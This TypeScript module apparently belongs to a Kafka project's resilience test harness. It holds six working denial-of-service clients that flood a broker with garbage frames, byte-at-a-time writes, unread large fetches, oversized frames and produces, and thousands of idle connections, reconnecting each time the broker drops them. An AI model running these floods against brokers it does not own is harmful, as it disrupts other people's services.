/**
 * Clients that do what they should not, as hard as one process can. Each keeps itself going: a connection that the broker
 * closes is opened again.
 */
import { type Socket, connect } from 'node:net';
import { apis } from '../../wire/api-keys';
import { encodeBatch } from '../../wire/record/records';
import { crc32cPortable } from '../../wire/record/crc32c';
import { requestFrame } from '../client/wire-connection';

export interface AttackTarget {
  readonly host: string;
  readonly port: number;
  /** Has at least 50 MB in partition 0. */
  readonly bulkTopic: string;
  /** Has `WIDE_PARTITIONS` partitions. */
  readonly wideTopic: string;
}

export const ATTACKS = ['garbage', 'slow', 'never-reading', 'huge-frames', 'huge-produces', 'connections'] as const;
export type AttackName = (typeof ATTACKS)[number];

export const WIDE_PARTITIONS = 100;
export const IDLE_CONNECTIONS = 5000;
export const STALLED_FETCHES = 20;
export const STALLED_FETCH_BYTES = 50 * 1024 * 1024;

const MB = 1024 * 1024;
/** Just below the default of socket.request.max.bytes. */
const HUGE_FRAME_BYTES = 100 * MB - 1024;
const GARBAGE_CONNECTIONS = 20;
const MAX_GARBAGE_BYTES = 64 * 1024;
const SLOW_CONNECTIONS = 100;
const SLOW_INTERVAL_MS = 20;
const HUGE_CONNECTIONS = 6;
const RECONNECT_MS = 10;
const FETCH_VERSION = 12;
const PRODUCE_VERSION = 9;
const NEVER_READING_REQUESTS = 20;

/** Starts an attack, which lasts until the process ends; resolves when it is in full swing. */
export async function startAttack(name: AttackName, target: AttackTarget): Promise<void> {
  switch (name) {
    case 'garbage':
      return onEach(GARBAGE_CONNECTIONS, target, sendGarbage);
    case 'slow':
      return onEach(SLOW_CONNECTIONS, target, sendSlowly);
    case 'never-reading':
      return onEach(STALLED_FETCHES, target, (socket) => fetchAndNeverRead(socket, target));
    case 'huge-frames':
      return onEach(HUGE_CONNECTIONS, target, hugeFrames(target));
    case 'huge-produces':
      return onEach(HUGE_CONNECTIONS, target, hugeProduces(target));
    case 'connections':
      return onEach(IDLE_CONNECTIONS, target, (socket) => void socket.write(apiVersionsFrame()));
  }
}

type Abuse = (socket: Socket, index: number) => void;

async function onEach(count: number, target: AttackTarget, abuse: Abuse): Promise<void> {
  const opened = Array.from({ length: count }, (_, index) => keepOpen(target, (socket) => abuse(socket, index)));
  await Promise.all(opened);
}

/** A connection that is opened again, and abused again, whenever it has ended; resolves when it is open for the first time. */
function keepOpen(target: AttackTarget, abuse: (socket: Socket) => void): Promise<void> {
  return new Promise((resolve) => {
    const open = (): void => {
      const socket = connect({ host: target.host, port: target.port });
      socket.on('error', () => undefined);
      socket.on('close', () => void setTimeout(open, RECONNECT_MS));
      socket.on('connect', () => {
        resolve();
        abuse(socket);
      });
    };
    open();
  });
}

/** By turns: nothing but noise; noise behind a plausible size; noise behind a plausible header. */
function sendGarbage(socket: Socket): void {
  socket.resume();
  const noise = Buffer.allocUnsafe(1 + Math.floor(Math.random() * MAX_GARBAGE_BYTES));
  for (let i = 0; i < noise.length; i++) noise[i] = Math.random() * 256;
  const kind = Math.random();
  if (kind < 0.66 && noise.length > 20) noise.writeInt32BE(Math.floor(Math.random() * noise.length), 0);
  if (kind < 0.33 && noise.length > 20) {
    noise.writeInt16BE(Math.floor(Math.random() * 40), 4);
    noise.writeInt16BE(Math.floor(Math.random() * 10), 6);
    noise.writeInt16BE(-1, 12);
  }
  socket.end(noise);
}

/** One byte at a time, of requests that are right. */
function sendSlowly(socket: Socket): void {
  socket.setNoDelay(true);
  socket.resume();
  const frame = apiVersionsFrame();
  let at = 0;
  const timer = setInterval(() => {
    socket.write(frame.subarray(at, at + 1));
    at = (at + 1) % frame.length;
  }, SLOW_INTERVAL_MS);
  socket.on('close', () => clearInterval(timer));
}

/** Large fetches, one behind the other, none of which is read. */
function fetchAndNeverRead(socket: Socket, { bulkTopic }: AttackTarget): void {
  socket.pause();
  const limit = STALLED_FETCH_BYTES;
  const frame = requestFrame(apis.Fetch, FETCH_VERSION, 1, {
    maxWaitMs: 0,
    minBytes: 1,
    maxBytes: limit,
    sessionEpoch: -1,
    topics: [{ topic: bulkTopic, partitions: [{ partition: 0, fetchOffset: 0, partitionMaxBytes: limit }] }],
    forgottenTopicsData: [],
  });
  for (let i = 0; i < NEVER_READING_REQUESTS; i++) socket.write(frame);
}

/** Requests of 100 MB that are right: a batch of 1 MB for each partition, again and again. */
function hugeProduces({ wideTopic }: AttackTarget): Abuse {
  const frame = wideFrame(wideTopic);
  return (socket) => {
    socket.resume();
    void writeAgain(socket, () => frame);
  };
}

/** By turns: a frame that never ends, one that is nonsense, and one that is right. */
function hugeFrames({ wideTopic }: AttackTarget): Abuse {
  const right = wideFrame(wideTopic);
  const size = Buffer.alloc(4);
  size.writeInt32BE(HUGE_FRAME_BYTES);
  const nonsense = Buffer.alloc(MB, 0x55);
  return (socket, index) => {
    socket.resume();
    if (index % 3 === 0) {
      void writeAgain(socket, () => right);
      return;
    }
    socket.write(size);
    const endBytes = index % 3 === 1 ? HUGE_FRAME_BYTES : HUGE_FRAME_BYTES - 10 * MB;
    void writeTotal(socket, nonsense, endBytes);
  };
}

async function writeAgain(socket: Socket, frame: () => Buffer): Promise<void> {
  while (!socket.destroyed) {
    const bytes = frame();
    for (let at = 0; at < bytes.length && !socket.destroyed; at += MB)
      await written(socket, bytes.subarray(at, at + MB));
    if (!socket.destroyed) await answered(socket);
  }
}

async function writeTotal(socket: Socket, piece: Buffer, totalBytes: number): Promise<void> {
  for (let left = totalBytes; left > 0 && !socket.destroyed; left -= piece.length) {
    await written(socket, piece.subarray(0, left));
  }
}

/** Resolves with an answer, or when the connection has ended. */
function answered(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const settle = (): void => {
      socket.off('data', settle).off('close', settle);
      resolve();
    };
    socket.on('data', settle).on('close', settle);
  });
}

/** Resolves when the system has taken the bytes, or the connection has ended. */
function written(socket: Socket, bytes: Buffer): Promise<void> {
  return new Promise((resolve) => {
    socket.write(bytes, () => resolve());
  });
}

function wideFrame(topic: string): Buffer {
  const value = Buffer.alloc(MB - 1000, 0x61);
  const records = encodeBatch({ records: [{ key: null, value, timestampMs: Date.now() }] }, crc32cPortable);
  const count = Math.floor(HUGE_FRAME_BYTES / (records.length + 16));
  const partitionData = Array.from({ length: Math.min(count, WIDE_PARTITIONS) }, (_, index) => ({ index, records }));
  return requestFrame(apis.Produce, PRODUCE_VERSION, 1, {
    transactionalId: null,
    acks: 1,
    timeoutMs: 30_000,
    topicData: [{ name: topic, partitionData }],
  });
}

function apiVersionsFrame(): Buffer {
  return requestFrame(apis.ApiVersions, 3, 1, { clientSoftwareName: 'attack', clientSoftwareVersion: '1' });
}
